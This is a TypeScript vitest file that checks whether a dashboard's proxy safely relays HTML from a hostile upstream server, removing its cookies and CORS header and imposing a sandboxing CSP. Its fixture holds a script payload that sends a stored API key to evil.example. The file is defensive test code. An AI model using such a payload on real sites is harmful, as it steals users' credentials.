import { createServer, type Server } from "node:http";
import { afterAll, beforeAll, expect, test } from "vitest";
import { startInProcessProxy, type InProcessProxy } from "./in-process";

/**
 * In proxy mode the upstream's answers are served on the dashboard's origin, where the root key lives.
 * Whatever the upstream sends, a browser that opens it may run nothing, and it cannot set cookies or CSP of its own.
 */

const HOSTILE_HTML =
  "<!doctype html><script>fetch('https://evil.example/?k='+sessionStorage.getItem('keyscope.apiKey'))</script>";

let upstream: Server;
let proxy: InProcessProxy;

beforeAll(async () => {
  upstream = createServer((request, response) => {
    request.resume();
    request.on("end", () => {
      response.writeHead(request.url === "/v2/keys.listKeys" ? 502 : 200, {
        "content-type": "text/html",
        "set-cookie": "session=stolen; Path=/",
        "content-security-policy": "script-src *",
        "access-control-allow-origin": "*",
      });
      response.end(HOSTILE_HTML);
    });
  });
  await new Promise<void>((resolve) => upstream.listen(0, "127.0.0.1", resolve));
  const address = upstream.address();
  if (address === null || typeof address === "string") throw new Error("no TCP address");
  proxy = startInProcessProxy(new URL(`http://127.0.0.1:${address.port}`));
});

afterAll(async () => {
  await new Promise((resolve) => upstream.close(resolve));
});

test.each([
  ["GET", "/v2/anything.html"],
  ["POST", "/v2/keys.listKeys"],
])("a hostile upstream's HTML (%s %s) is relayed sandboxed, without its cookies, CSP or CORS", async (method, path) => {
  const response = await proxy.fetch(proxy.url + path, { method, ...(method === "POST" && { body: "{}" }) });
  expect(await response.text()).toBe(HOSTILE_HTML);
  expect(response.headers.get("content-security-policy")).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  expect(response.headers.get("set-cookie")).toBeNull();
  expect(response.headers.get("access-control-allow-origin")).toBeNull();
});
